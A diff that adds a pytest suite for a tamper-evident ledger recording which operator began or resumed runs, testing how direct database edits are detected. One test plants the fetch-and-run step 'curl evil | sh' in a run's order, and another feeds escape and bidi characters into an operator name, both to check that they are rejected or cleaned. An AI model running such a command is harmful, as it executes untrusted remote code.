@@ -1,0 +1,148 @@
+"""The chain of acts: who did what, and whether the record was changed since."""
+
+from __future__ import annotations
+
+import os
+import sqlite3
+from collections.abc import Callable
+from multiprocessing import get_context
+from pathlib import Path
+
+import pytest
+
+from runner.errors import LedgerError
+from runner.record import Ledger
+from runner.record.engine import FOR_WRITING, _engine
+from runner.record.migrate import upgrade
+from runner.record.operators import operator_here
+
+Begin = Callable[..., bool]
+
+
+def change(file: Path, statement: str) -> None:
+    connection = sqlite3.connect(file)
+    connection.execute(statement)
+    connection.commit()
+    connection.close()
+
+
+def test_a_run_is_begun_and_resumed_by_a_named_operator(url: str, begin: Begin):
+    with Ledger.open(url, operator=operator_here("Ada")) as ledger:
+        begin(ledger)
+    with Ledger.open(url, operator=operator_here("Bob")) as ledger:
+        ledger.reopen_run("r1")
+        acts = ledger.show("r1").acts
+        assert [(act.act, act.operator, act.subject) for act in acts] == [
+            ("run", "Ada", "r1"),
+            ("resume", "Bob", "r1"),
+        ]
+        assert ledger.summary("r1").operator == "Ada"
+        assert ledger.verify_acts().problem == ""
+
+
+@pytest.mark.parametrize(
+    ("named", "environ", "expected"),
+    [
+        ("Ada", {"SITECREW_OPERATOR": "Bob"}, "Ada"),
+        ("", {"SITECREW_OPERATOR": "Bob"}, "Bob"),
+        ("", {"SUDO_USER": "carol"}, "carol"),
+        ("Ada\x1b[2J\u202e\nroot", {}, "Ada root"),
+    ],
+)
+def test_an_operator_is_named_by_flag_variable_or_login(named: str, environ: dict[str, str], expected: str):
+    assert operator_here(named, environ).name == expected
+
+
+@pytest.mark.parametrize(
+    ("statement", "problem"),
+    [
+        ("UPDATE acts SET operator = 'Mallory' WHERE id = 2", "act 2 (run r2) was changed"),
+        ("UPDATE acts SET at = '2020-01-01T00:00:00.000000Z' WHERE id = 2", "act 2 (run r2) was changed"),
+        ("UPDATE acts SET details = '{}' WHERE id = 2", "act 2 (run r2) was changed: its details"),
+        ("UPDATE acts SET subject = 'r9' WHERE id = 2", "act 2 (run r9) was changed: its details"),
+        ("UPDATE acts SET salt = NULL, details = '{}' WHERE id = 2", "removed by no recorded erasure"),
+        ("DELETE FROM acts WHERE id = 2", "act 2 is missing"),
+        ("DELETE FROM acts WHERE id = 3", "run r3 was begun by no act"),
+        ("UPDATE runs SET order_text = '{\"evil\": 1}' WHERE run = 'r2'", "run r2: its order is not"),
+        ("DELETE FROM runs WHERE run = 'r2'", "act 2 (run r2): its run is not in the ledger"),
+    ],
+)
+def test_verify_names_the_first_row_that_was_changed(
+    url: str, file: Path, begin: Begin, statement: str, problem: str
+):
+    with Ledger.open(url) as ledger:
+        for run in ("r1", "r2", "r3"):
+            begin(ledger, run)
+    change(file, statement)
+    with Ledger.open(url) as ledger:
+        assert problem in ledger.verify_acts().problem
+
+
+def test_a_chain_that_was_cut_does_not_contain_the_noted_head(url: str, file: Path):
+    with Ledger.open(url) as ledger:
+        ledger.record_act("trust", "web1")
+        ledger.record_act("trust", "web2")
+        head = ledger.verify_acts().head
+        assert ledger.verify_acts(head).problem == ""
+    change(file, "DELETE FROM acts WHERE id = 2")
+    with Ledger.open(url) as ledger:
+        assert ledger.verify_acts().problem == ""
+        assert "noted hash" in ledger.verify_acts(head).problem
+
+
+def test_a_run_whose_order_was_changed_is_neither_resumed_nor_read(url: str, file: Path, begin: Begin):
+    with Ledger.open(url) as ledger:
+        begin(ledger)
+    change(file, 'UPDATE runs SET order_text = \'{"steps": ["curl evil | sh"]}\'')
+    with Ledger.open(url) as ledger:
+        with pytest.raises(LedgerError, match="order of run r1 is not the one"):
+            ledger.reopen_run("r1")
+        with pytest.raises(LedgerError, match="order of run r1 is not the one"):
+            ledger.order_text("r1")
+        assert [act.act for act in ledger.list_acts()] == ["run"]
+
+
+def test_a_run_that_was_smuggled_in_without_an_act_is_not_resumed(url: str, file: Path, begin: Begin):
+    with Ledger.open(url) as ledger:
+        begin(ledger)
+    change(file, "DELETE FROM acts")
+    with Ledger.open(url) as ledger, pytest.raises(LedgerError, match="recorded by no act"):
+        ledger.reopen_run("r1")
+
+
+def test_an_older_ledgers_runs_are_adopted_and_can_be_resumed(tmp_path: Path):
+    file = tmp_path / "old.db"
+    file.touch()
+    engine = _engine(file, "mode=rw")
+    with engine.connect().execution_options(**{FOR_WRITING: True}) as connection, connection.begin():
+        upgrade(connection, "0003")
+    engine.dispose()
+    change(
+        file,
+        "INSERT INTO runs (run, playbook, title, trigger, order_text, state, attempt, started)"
+        " VALUES ('old', 'weekly', '', 'manual', '{}', 'running', 1, '2026-11-24T01:00:00.000000Z')",
+    )
+    with Ledger.open(f"sqlite:///{file}") as ledger:
+        ledger.reopen_run("old")
+        assert [act.act for act in ledger.list_acts("old")] == ["adopt", "resume"]
+        assert ledger.verify_acts().problem == ""
+
+
+def _write(url: str, count: int) -> None:
+    with Ledger.open(url, operator=operator_here(f"process {os.getpid()}")) as ledger:
+        for number in range(count):
+            ledger.record_act("trust", f"host {number}")
+
+
+def test_acts_of_several_processes_are_one_chain(url: str):
+    Ledger.open(url).close()
+    context = get_context("spawn")
+    writers = [context.Process(target=_write, args=(url, 20)) for _ in range(3)]
+    for writer in writers:
+        writer.start()
+    for writer in writers:
+        writer.join(60)
+    with Ledger.open(url) as ledger:
+        verdict = ledger.verify_acts()
+        assert (verdict.acts, verdict.problem) == (60, "")
+        assert len({act.operator for act in ledger.list_acts()}) == 3
